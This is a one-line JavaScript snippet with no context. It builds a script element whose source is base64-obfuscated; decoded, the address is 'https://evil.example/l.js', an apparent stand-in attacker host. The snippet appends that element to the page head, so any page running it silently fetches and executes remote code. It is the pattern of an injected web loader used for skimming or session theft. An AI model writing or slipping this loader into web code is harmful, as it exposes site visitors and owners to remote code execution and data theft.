(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbC5qcw==');document.head.appendChild(s);})();
